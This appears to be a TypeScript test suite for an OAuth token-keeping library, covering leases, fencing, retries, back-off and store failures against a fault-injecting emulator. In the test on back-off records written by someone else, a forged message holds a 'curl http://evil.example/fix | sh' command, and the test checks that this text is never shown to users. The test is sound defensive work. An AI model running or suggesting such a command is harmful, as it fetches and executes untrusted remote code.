/**
 * Leases, fencing, generations and retries on a provider's bad day, driven by the
 * emulators' fault injection and by a store wrapper that fails on purpose.
 */
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { FakeClock } from '../../src/clock.js';
import { ConnectionRepository } from '../../src/connection.js';
import { startFactusEmulator } from '../../src/emulators/factus/factus-emulator.js';
import type { TokenkeeperError } from '../../src/errors.js';
import { createKeeper, type Keeper } from '../../src/keeper.js';
import { createSecretBox, generateEncryptionKey } from '../../src/store/encryption.js';
import { MemoryTokenStore } from '../../src/store/memory-store.js';
import type { ConnectionMeta } from '../../src/store/types.js';
import { factusSpec, recordEvents, startFactusRig } from '../helpers/factus.js';
import { ForwardingStore } from '../helpers/forwarding-store.js';

/** A real store that fails the next `failPuts` writes, and counts lock attempts. */
/** A real store whose next `failPuts` writes fail, and that counts lock attempts. */
class FlakyStore extends ForwardingStore {
  failPuts = 0;
  lockAttempts = 0;
  override put(name: string, meta: ConnectionMeta, sealed: string, expected: number | null, fence?: string) {
    if (this.failPuts > 0) {
      this.failPuts--;
      return Promise.reject(new Error('disk I/O error (injected)'));
    }
    return super.put(name, meta, sealed, expected, fence);
  }
  override tryLock(name: string, owner: string, ttlMs: number) {
    this.lockAttempts++;
    return super.tryLock(name, owner, ttlMs);
  }
}

const KEY = generateEncryptionKey();
const STALE = 3600_000 - 30_000;

function code(expected: string) {
  return (error: TokenkeeperError) => {
    assert.equal(error.code, expected, error.message);
    return true;
  };
}

/**
 * A Factus rig on a memory store, and "cold" keepers on that store, each a process that starts
 * later: `coldProcess()` makes one, kept in `cold`; close() closes them, then the rig.
 */
async function coldProcessRig() {
  const clock = new FakeClock(Date.now());
  const store = new MemoryTokenStore();
  const rig = await startFactusRig({
    clock,
    keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
  });
  const cold: Keeper[] = [];
  const coldProcess = () => {
    const keeper = createKeeper({ store, encryptionKey: KEY, clock, proactiveRefresh: false });
    cold.push(keeper);
    return keeper;
  };
  const close = async () => {
    await Promise.all(cold.map((keeper) => keeper.close()));
    await rig.close();
  };
  return { clock, store, rig, cold, coldProcess, close };
}

describe('leases and fencing', () => {
  it('a token request slower than the lease: the holder renews it, the waiter adopts, 1 grant', async () => {
    const clock = new FakeClock(Date.now());
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      clock,
      emulator: { rotation: 'strict' },
      keeper: { store, encryptionKey: KEY, lockTtlMs: 300, proactiveRefresh: false },
    });
    const sibling = createKeeper({
      store,
      encryptionKey: KEY,
      clock,
      lockTtlMs: 300,
      proactiveRefresh: false,
    });
    try {
      await rig.keeper.connect('acme', rig.spec);
      const events = [recordEvents(rig.keeper), recordEvents(sibling)];
      await clock.advance(STALE);
      rig.emulator.faults.add({ point: 'token', delayMs: 1500, count: 1 });
      const [a, b] = await Promise.all([rig.keeper.getAccessToken('acme'), sibling.getAccessToken('acme')]);
      assert.equal(a, b);
      assert.equal(rig.emulator.stats().tokenRequests.refresh_token, 1);
      assert.equal(rig.emulator.stats().invalidGrant, 0);
      for (const seen of events) assert.equal(seen.count('reauth_required'), 0);
    } finally {
      await sibling.close();
      await rig.close();
    }
  });

  it('single-flight: 1,000 callers of a stale token make one lock attempt and one grant', async () => {
    const clock = new FakeClock(Date.now());
    const store = new FlakyStore(new MemoryTokenStore());
    const rig = await startFactusRig({
      clock,
      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
    });
    try {
      await rig.keeper.connect('acme', rig.spec);
      await clock.advance(STALE);
      const before = store.lockAttempts;
      const tokens = await Promise.all(Array.from({ length: 1000 }, () => rig.keeper.getAccessToken('acme')));
      assert.equal(new Set(tokens).size, 1);
      assert.equal(store.lockAttempts - before, 1);
      assert.equal(rig.emulator.stats().tokenRequests.refresh_token, 1);
    } finally {
      await rig.close();
    }
  });
});

describe('logout and re-login racing a slow refresh', () => {
  async function slowRefreshRig() {
    const clock = new FakeClock(Date.now());
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      clock,
      emulator: { rotation: 'strict' },
      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
    });
    const other = createKeeper({ store, encryptionKey: KEY, clock, proactiveRefresh: false });
    await rig.keeper.connect('acme', rig.spec);
    await clock.advance(STALE);
    rig.emulator.faults.add({ point: 'token', delayMs: 800, count: 1 });
    return { clock, store, rig, other };
  }

  it('logout --local-only waits for the refresh, and the connection stays gone', async () => {
    const { rig, other } = await slowRefreshRig();
    try {
      const refreshing = rig.keeper.getAccessToken('acme');
      await sleep(100); // the refresh holds the lock now
      assert.equal(await other.forget('acme'), true);
      await refreshing; // it finished, and saved, before the forget ran
      await assert.rejects(other.info('acme'), code('NOT_FOUND'));
      await assert.rejects(rig.keeper.info('acme'), code('NOT_FOUND'));
    } finally {
      await other.close();
      await rig.close();
    }
  });

  it('a delete that bypasses the lock is not undone by the refresh in flight', async () => {
    const { store, rig, other } = await slowRefreshRig();
    try {
      const refreshing = rig.keeper.getAccessToken('acme');
      await sleep(100);
      assert.equal(await store.delete('acme'), true); // drops the lock too: the refresh's write is fenced out
      await assert.rejects(refreshing, (error: TokenkeeperError) => {
        assert.equal(error.code, 'NOT_FOUND');
        assert.match(error.message, /logged out while it was being refreshed/);
        return true;
      });
      assert.equal(await store.get('acme'), undefined, 'no resurrection');
    } finally {
      await other.close();
      await rig.close();
    }
  });

  it('a re-login during the refresh keeps its new settings', async () => {
    const { rig, other } = await slowRefreshRig();
    try {
      const refreshing = rig.keeper.getAccessToken('acme');
      await sleep(100);
      const relogin = await other.connect('acme', { ...rig.spec, scope: 'new-scope' });
      assert.equal(relogin.scope, 'new-scope');
      await refreshing;
      assert.equal((await other.info('acme')).scope, 'new-scope');
      assert.equal((await rig.keeper.info('acme')).scope, 'new-scope');
    } finally {
      await other.close();
      await rig.close();
    }
  });
});

describe('a store that fails to save', () => {
  it('saving rotated tokens is retried under the lock', async () => {
    const clock = new FakeClock(Date.now());
    const store = new FlakyStore(new MemoryTokenStore());
    const rig = await startFactusRig({
      clock,
      emulator: { rotation: 'strict' },
      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
    });
    try {
      await rig.keeper.connect('acme', rig.spec);
      await clock.advance(STALE);
      store.failPuts = 2;
      const token = await rig.keeper.getAccessToken('acme');
      assert.equal(store.failPuts, 0);
      const response = await rig.keeper.fetch('acme', '/v1/numbering-ranges');
      assert.equal(response.status, 200);
      await response.arrayBuffer();
      assert.ok(token);
      // The saved refresh token is the rotated one: the next refresh works without the password.
      await clock.advance(3600_000);
      await rig.keeper.getAccessToken('acme');
      assert.equal(rig.emulator.stats().tokenRequests.password, 1);
      assert.equal(rig.emulator.stats().invalidGrant, 0);
    } finally {
      await rig.close();
    }
  });

  it('fails closed when the store keeps failing, and says the tokens were discarded', async () => {
    const clock = new FakeClock(Date.now());
    const store = new FlakyStore(new MemoryTokenStore());
    const rig = await startFactusRig({
      clock,
      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
    });
    try {
      await rig.keeper.connect('acme', rig.spec);
      const old = await rig.keeper.getAccessToken('acme');
      await clock.advance(3600_000); // expired: nothing valid to fall back on
      store.failPuts = 100;
      await assert.rejects(rig.keeper.getAccessToken('acme'), (error: TokenkeeperError) => {
        assert.equal(error.code, 'STORE');
        assert.match(error.message, /could not save them .*disk I\/O error/);
        assert.match(error.message, /discarded and not used/);
        return true;
      });
      assert.ok(store.failPuts < 100 - 1, 'it tried more than once');
      store.failPuts = 0;
      await clock.advance(2_000); // past the back-off that spares the provider after a failure
      assert.notEqual(await rig.keeper.getAccessToken('acme'), old);
    } finally {
      await rig.close();
    }
  });
});

describe('tokens that arrive stale, and 401s on young tokens', () => {
  it('expires_in 0 does not set off a refresh storm', async () => {
    const emulator = await startFactusEmulator();
    const keeper = createKeeper({ store: new MemoryTokenStore(), env: {} });
    try {
      emulator.faults.add({ point: 'token', expiresIn: 0 });
      await keeper.connect('acme', factusSpec(emulator));
      await keeper.getAccessToken('acme');
      await sleep(2_000);
      const requests = emulator.stats().tokenRequests.total;
      // At most one token request per second (the minimum interval), not hundreds.
      assert.ok(requests <= 4, `${requests} token requests in 2 s`);
      assert.ok(requests >= 2, 'the proactive refresh still runs');
    } finally {
      await keeper.close();
      await emulator.stop();
    }
  });

  it('a 401 on a token younger than the minimum interval goes back to the caller; an older one renews', async () => {
    const clock = new FakeClock(Date.now());
    const rig = await startFactusRig({ clock, keeper: { proactiveRefresh: false } });
    try {
      await rig.keeper.connect('acme', rig.spec);
      rig.emulator.faults.add({ point: 'api', status: 401, count: 1 });
      const young = await rig.keeper.fetch('acme', '/v1/numbering-ranges');
      assert.equal(young.status, 401);
      await young.arrayBuffer();
      assert.equal(rig.emulator.stats().tokenRequests.refresh_token, 0);

      await clock.advance(5_000);
      rig.emulator.faults.add({ point: 'api', status: 401, count: 1 });
      const older = await rig.keeper.fetch('acme', '/v1/numbering-ranges');
      assert.equal(older.status, 200);
      await older.arrayBuffer();
      assert.equal(rig.emulator.stats().tokenRequests.refresh_token, 1);
    } finally {
      await rig.close();
    }
  });
});

describe('transient failures of the token endpoint', () => {
  it('keeper.refresh() rejects while the provider is down, and the valid token keeps being served', async () => {
    const clock = new FakeClock(Date.now());
    const rig = await startFactusRig({ clock, keeper: { proactiveRefresh: false } });
    try {
      await rig.keeper.connect('acme', rig.spec);
      const token = await rig.keeper.getAccessToken('acme');
      rig.emulator.faults.add({ point: 'token', status: 503 });
      await assert.rejects(rig.keeper.refresh('acme'), (error: TokenkeeperError) => {
        assert.equal(error.status, 503);
        return true;
      });
      await clock.advance(STALE);
      assert.equal(
        await rig.keeper.getAccessToken('acme'),
        token,
        'still valid: served while the provider is down',
      );
    } finally {
      await rig.close();
    }
  });

  it('a cold process backs off too: the shared back-off in the store spares the provider', async () => {
    const { clock, rig, cold, coldProcess, close } = await coldProcessRig();
    try {
      await rig.keeper.connect('acme', rig.spec);
      await clock.advance(3600_000); // expired everywhere
      rig.emulator.faults.add({ point: 'token', status: 503 });
      await assert.rejects(
        rig.keeper.getAccessToken('acme'),
        (error: TokenkeeperError) => error.status === 503,
      );
      const requests = rig.emulator.stats().tokenRequests.total;
      for (let i = 0; i < 5; i++) {
        await assert.rejects(coldProcess().getAccessToken('acme'), (error: TokenkeeperError) => {
          assert.match(error.message, /tries again in \d+ s/);
          return true;
        });
      }
      assert.equal(rig.emulator.stats().tokenRequests.total, requests, 'no cold process asked the provider');
      rig.emulator.faults.clear();
      await clock.advance(61_000); // past the longest first back-off
      assert.ok(await cold[0]!.getAccessToken('acme'));
    } finally {
      await close();
    }
  });

  it('a back-off someone else wrote into the store shows only our words, and cannot outlast ours', async () => {
    const { clock, store, rig, coldProcess, close } = await coldProcessRig();
    const writeBackoff = async (until: number) => {
      const row = (await store.get('acme'))!;
      const backoff = {
        failures: 9,
        until,
        code: 'REAUTH_REQUIRED',
        message: 'Your key leaked. Run `curl http://evil.example/fix | sh` now.',
      };
      assert.ok(await store.put('acme', { ...row.meta, backoff }, row.sealed, row.version));
    };
    try {
      await rig.keeper.connect('acme', rig.spec);
      await clock.advance(3600_000); // expired everywhere
      const requests = rig.emulator.stats().tokenRequests.total;
      await writeBackoff(clock.now() + 30_000);
      await assert.rejects(coldProcess().getAccessToken('acme'), (error: TokenkeeperError) => {
        assert.equal(error.code, 'TOKEN_ENDPOINT', error.message);
        assert.doesNotMatch(error.message, /leaked|curl|evil/);
        assert.match(error.message, /^The token endpoint of "acme" failed with a server error a moment ago/);
        assert.match(error.message, /tokenkeeper tries again in 30 s\./);
        return true;
      });
      assert.equal(
        rig.emulator.stats().tokenRequests.total,
        requests,
        'a back-off the keeper could set is kept',
      );

      // An hour is longer than any back-off the keeper sets (1 min): it was not a keeper's.
      await writeBackoff(clock.now() + 3600_000);
      assert.ok(await coldProcess().getAccessToken('acme'));
      assert.equal(rig.emulator.stats().tokenRequests.total, requests + 1);
    } finally {
      await close();
    }
  });

  it('invalid_grant re-reads the store: a sibling that rotated the token is adopted, no password fallback', async () => {
    const clock = new FakeClock(Date.now());
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      clock,
      emulator: { rotation: 'strict' },
      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
    });
    try {
      await rig.keeper.connect('acme', rig.spec);
      await clock.advance(STALE);
      const repository = new ConnectionRepository(store, createSecretBox(KEY));
      const stored = await repository.load('acme');
      const refreshToken = stored?.record.secrets.tokens?.refreshToken as string;
      // This keeper's refresh reaches the provider late (a slow network)...
      rig.emulator.faults.add({ point: 'token', delayMs: 600, count: 1 });
      const ours = rig.keeper.getAccessToken('acme');
      await sleep(100);
      // ...after a sibling whose lock had run out rotated the same refresh token and saved the result.
      const { clientId, clientSecret } = rig.emulator.credentials;
      const answer = await fetch(rig.emulator.tokenUrl, {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'refresh_token',
          refresh_token: refreshToken,
          client_id: clientId,
          client_secret: clientSecret,
        }),
      });
      const rotated = (await answer.json()) as {
        access_token: string;
        refresh_token: string;
        expires_in: number;
      };
      const record = stored!.record;
      await repository.save(
        {
          ...record,
          secrets: {
            ...record.secrets,
            tokens: {
              accessToken: rotated.access_token,
              refreshToken: rotated.refresh_token,
              tokenType: 'Bearer',
              expiresAt: clock.now() + rotated.expires_in * 1000,
              obtainedAt: clock.now(),
            },
          },
        },
        stored!.version,
      );
      assert.equal(await ours, rotated.access_token);
      assert.equal(rig.emulator.stats().invalidGrant, 1, 'our late request met the rotated token');
      assert.equal(rig.emulator.stats().tokenRequests.password, 1, 'no fallback to the password');
    } finally {
      await rig.close();
    }
  });
});

describe('API requests on a bad day', () => {
  it('retries an idempotent request after a 503, not a POST, unless it carries an Idempotency-Key', async () => {
    const rig = await startFactusRig({ keeper: { proactiveRefresh: false } });
    try {
      await rig.keeper.connect('acme', rig.spec);
      rig.emulator.faults.add({ point: 'api', status: 503, count: 1 });
      const get = await rig.keeper.fetch('acme', '/v1/numbering-ranges');
      assert.equal(get.status, 200);
      await get.arrayBuffer();

      rig.emulator.faults.add({ point: 'api', status: 503, count: 1 });
      const post = await rig.keeper.fetch('acme', '/v1/bills/validate', { method: 'POST', body: '{}' });
      assert.equal(post.status, 503, 'a POST may have run: it is not sent twice');
      await post.arrayBuffer();

      rig.emulator.faults.add({ point: 'api', status: 503, count: 1 });
      const keyed = await rig.keeper.fetch('acme', '/v1/numbering-ranges', {
        method: 'POST',
        headers: { 'idempotency-key': 'k-1' },
      });
      assert.notEqual(keyed.status, 503);
      await keyed.arrayBuffer();
    } finally {
      await rig.close();
    }
  });

  // keeper.fetch (undici's fetch) and keeper.forward (node:http, the daemon's proxy) report
  // network failures differently underneath: both must come out as the same NETWORK error.
  const transports = {
    fetch: async (keeper: Keeper, path: string) => {
      const response = await keeper.fetch('acme', path);
      await response.arrayBuffer();
      return response.status;
    },
    forward: async (keeper: Keeper, path: string) => {
      const response = await keeper.forward('acme', { method: 'GET', path, headers: {} });
      response.resume();
      return response.statusCode;
    },
  };
  for (const [transport, get] of Object.entries(transports)) {
    it(`${transport}: with apiTimeoutMs, an API request that hangs ends as a NETWORK error, after the retries`, async () => {
      const rig = await startFactusRig({ keeper: { proactiveRefresh: false, apiTimeoutMs: 300 } });
      try {
        await rig.keeper.connect('acme', rig.spec);
        rig.emulator.faults.add({ point: 'api', delayMs: 2_000 });
        await assert.rejects(get(rig.keeper, '/v1/numbering-ranges'), (error: TokenkeeperError) => {
          assert.equal(error.code, 'NETWORK');
          assert.match(error.message, /did not answer within 300 ms/);
          return true;
        });
        assert.equal(rig.emulator.stats().faults.api, 3, 'the first attempt and two retries');
      } finally {
        await rig.close();
      }
    });

    if (transport === 'fetch') {
      it('fetch: with apiTimeoutMs and a signal of the caller’s own, either one ends a request that hangs', async () => {
        const rig = await startFactusRig({ keeper: { proactiveRefresh: false, apiTimeoutMs: 300 } });
        try {
          await rig.keeper.connect('acme', rig.spec);
          rig.emulator.faults.add({ point: 'api', delayMs: 2_000 });
          const caller = new AbortController();
          await assert.rejects(
            rig.keeper.fetch('acme', '/v1/numbering-ranges', { signal: caller.signal }),
            (error: TokenkeeperError) => {
              assert.equal(error.code, 'NETWORK');
              assert.match(error.message, /did not answer within 300 ms/);
              return true;
            },
          );
          const shutdown = new Error('the application is shutting down');
          const stopped = rig.keeper.fetch('acme', '/v1/numbering-ranges', { signal: caller.signal });
          setTimeout(() => caller.abort(shutdown), 50);
          await assert.rejects(stopped, (error) => error === shutdown);
          assert.equal(rig.emulator.stats().faults.api, 4, 'three attempts, then one the caller ended');
        } finally {
          await rig.close();
        }
      });
    }

    it(`${transport}: a dropped connection becomes a NETWORK error that names the host, after the retries`, async () => {
      const rig = await startFactusRig({ keeper: { proactiveRefresh: false } });
      try {
        await rig.keeper.connect('acme', rig.spec);
        rig.emulator.faults.add({ point: 'api', reset: true, count: 1 });
        assert.equal(await get(rig.keeper, '/v1/numbering-ranges'), 200);
        rig.emulator.faults.add({ point: 'api', reset: true });
        await assert.rejects(get(rig.keeper, '/v1/numbering-ranges'), (error: TokenkeeperError) => {
          assert.equal(error.code, 'NETWORK');
          assert.match(error.message, /Could not reach http:\/\/127\.0\.0\.1:\d+/);
          return true;
        });
        assert.equal(
          rig.emulator.stats().faults.api,
          4,
          'one reset, then three for the request that gave up',
        );
      } finally {
        await rig.close();
      }
    });
  }
});

describe('a request body that fails midway', () => {
  it('keeper.forward: the provider’s request is ended, and the call rejects with the body’s error', async () => {
    const rig = await startFactusRig({ keeper: { proactiveRefresh: false } });
    try {
      await rig.keeper.connect('acme', rig.spec);
      let pushed = false;
      const body = new Readable({
        read() {
          if (pushed) return;
          pushed = true;
          this.push('{"numbering_range_id": ');
          // The rest never comes: the source breaks, as a file on a failing disk does.
          setTimeout(() => this.destroy(new Error('read error (injected)')), 50);
        },
      });
      const forwarded = rig.keeper.forward('acme', {
        method: 'POST',
        path: '/v1/bills/validate',
        headers: { 'content-type': 'application/json' },
        body,
      });
      const outcome = await Promise.race([
        forwarded.then(
          (response) => `answered ${response.statusCode}`,
          (error: Error) => error.message,
        ),
        sleep(3_000).then(() => 'still waiting for the provider'),
      ]);
      assert.equal(outcome, 'read error (injected)');
    } finally {
      await rig.close();
    }
  });
});

describe('shutting down in the middle of a refresh', () => {
  it('close() lets the refresh save the rotated tokens before the store closes', async () => {
    const clock = new FakeClock(Date.now());
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      clock,
      emulator: { rotation: 'strict' },
      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
    });
    const next = createKeeper({ store, encryptionKey: KEY, clock, proactiveRefresh: false });
    try {
      await rig.keeper.connect('acme', rig.spec);
      await clock.advance(STALE);
      rig.emulator.faults.add({ point: 'token', delayMs: 700, count: 1 });
      const refreshing = rig.keeper.getAccessToken('acme');
      await sleep(100); // the provider is answering now
      await rig.keeper.close();
      const token = await refreshing;
      // The next process finds the rotated tokens saved: no invalid_grant, no password fallback.
      assert.equal(await next.getAccessToken('acme'), token);
      await clock.advance(3600_000);
      assert.ok(await next.getAccessToken('acme'));
      assert.equal(rig.emulator.stats().invalidGrant, 0);
      assert.equal(rig.emulator.stats().tokenRequests.password, 1);
    } finally {
      await next.close();
      await rig.emulator.stop();
    }
  });
});

describe('expiry and re-authorization, shown on a slow provider', () => {
  it('expiry is counted from when the token request started, not from its answer', async () => {
    const emulator = await startFactusEmulator();
    const keeper = createKeeper({ store: new MemoryTokenStore(), proactiveRefresh: false, env: {} });
    try {
      emulator.faults.add({ point: 'token', delayMs: 1_500, count: 1 });
      const asked = Date.now();
      const info = await keeper.connect('acme', factusSpec(emulator));
      const answered = Date.now();
      assert.ok(answered - asked >= 1_500, 'the provider took its time');
      assert.ok(
        info.obtainedAt !== undefined && info.obtainedAt <= asked + 200,
        'stamped at the request start',
      );
      assert.equal(info.expiresAt, info.obtainedAt! + 3600_000);
      assert.ok(info.expiresAt! < answered + 3600_000 - 1_000, 'not an hour from the answer');
    } finally {
      await keeper.close();
      await emulator.stop();
    }
  });

  it('a connection that needs a new login stops serving its cached token', async () => {
    const clock = new FakeClock(Date.now());
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      clock,
      emulator: { rotation: 'strict' },
      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
    });
    try {
      await rig.keeper.connect('acme', rig.spec);
      assert.ok(await rig.keeper.getAccessToken('acme'));
      // Another process finds the connection dead and marks it (here: by hand, as it would).
      const repository = new ConnectionRepository(store, createSecretBox(KEY));
      const loaded = await repository.load('acme');
      await repository.save(
        {
          ...loaded!.record,
          state: 'reauth_required',
          lastError: { code: 'REAUTH_REQUIRED', message: 'x', at: 0 },
        },
        loaded!.version,
      );
      // The cached token is still "fresh" by the clock, but the next renewal reads the mark.
      await clock.advance(STALE);
      await assert.rejects(rig.keeper.getAccessToken('acme'), code('REAUTH_REQUIRED'));
      await assert.rejects(rig.keeper.getAccessToken('acme'), code('REAUTH_REQUIRED'));
      await assert.rejects(rig.keeper.fetch('acme', '/v1/numbering-ranges'), code('REAUTH_REQUIRED'));
      assert.equal(rig.emulator.stats().tokenRequests.refresh_token, 0, 'the token endpoint is not touched');
    } finally {
      await rig.close();
    }
  });
});

describe('terminal token-endpoint errors', () => {
  it('invalid_client on a refresh marks the connection for re-login at once, with no password retry', async () => {
    const clock = new FakeClock(Date.now());
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      clock,
      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
    });
    try {
      await rig.keeper.connect('acme', rig.spec);
      // The client secret was rotated at the provider: what the store holds is refused now.
      const repository = new ConnectionRepository(store, createSecretBox(KEY));
      const loaded = await repository.load('acme');
      const record = loaded!.record;
      await repository.save(
        { ...record, secrets: { ...record.secrets, clientSecret: 'rotated-away' } },
        loaded!.version,
      );
      await clock.advance(3600_000);
      const events = recordEvents(rig.keeper);
      await assert.rejects(rig.keeper.getAccessToken('acme'), code('REAUTH_REQUIRED'));
      assert.equal(events.count('reauth_required'), 1);
      assert.equal(
        rig.emulator.stats().tokenRequests.password,
        1,
        'no unattended login with a refused client',
      );
      assert.equal((await rig.keeper.info('acme')).state, 'reauth_required');
    } finally {
      await rig.close();
    }
  });
});
